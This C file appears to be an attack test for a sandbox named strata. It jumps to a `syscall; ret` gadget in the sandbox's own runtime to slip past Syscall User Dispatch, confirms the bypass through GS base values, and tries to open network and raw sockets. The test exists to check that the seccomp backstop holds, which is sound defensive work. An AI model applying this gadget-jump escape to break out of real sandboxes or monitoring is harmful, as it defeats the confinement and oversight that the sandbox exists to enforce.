/* Attack 2: jump to strata's own `syscall; ret`. Syscall User Dispatch lets
 * every syscall from strata-rt's text through, so this socket(AF_INET) never
 * reaches strata's policy layer: only the kernel backstop (seccomp) can
 * refuse it. Natively the gadget comes from libc and the call succeeds. */
#include "attack.h"
#include <asm/prctl.h>
#include <linux/if_ether.h>

int main(void) {
    struct gadget g = find_gadget();
    /* Proof that the gadget bypasses strata: strata virtualizes the GS base
     * (it keeps its per-thread state there); the kernel tells the truth. */
    unsigned long gs_gadget = 0, gs_raw = 0;
    gadget_call(g.addr, SYS_arch_prctl, ARCH_GET_GS, (long)&gs_gadget, 0, 0, 0, 0);
    jit_call(SYS_arch_prctl, ARCH_GET_GS, (long)&gs_raw, 0, 0, 0, 0);
    printf("bypass check: GS base via gadget = %#lx, via a trapped syscall = %#lx (%s)\n", gs_gadget, gs_raw,
           gs_gadget != gs_raw ? "the gadget reaches the kernel unseen" : "same");
    int esc = 0;
    esc |= attempt("gadget: socket(AF_INET, SOCK_STREAM)", gadget_call(g.addr, SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0, 0));
    esc |= attempt("gadget: socket(AF_INET6, SOCK_DGRAM)", gadget_call(g.addr, SYS_socket, AF_INET6, SOCK_DGRAM, 0, 0, 0, 0));
    esc |= attempt("gadget: socket(AF_INET, SOCK_RAW, ICMP)", gadget_call(g.addr, SYS_socket, AF_INET, SOCK_RAW, 1, 0, 0, 0));
    esc |= attempt("gadget: socket(AF_PACKET, SOCK_DGRAM)",
                   gadget_call(g.addr, SYS_socket, AF_PACKET, SOCK_DGRAM, __builtin_bswap16(ETH_P_ALL), 0, 0, 0));
    /* Allowed by no-network: shows the gadget works at all under the policy. */
    long unix_fd = gadget_call(g.addr, SYS_socket, AF_UNIX, SOCK_STREAM, 0, 0, 0, 0);
    printf("control: gadget socket(AF_UNIX) = %ld (%s)\n", unix_fd, unix_fd >= 0 ? "allowed, as it should be" : errname(-unix_fd));
    return verdict(esc);
}
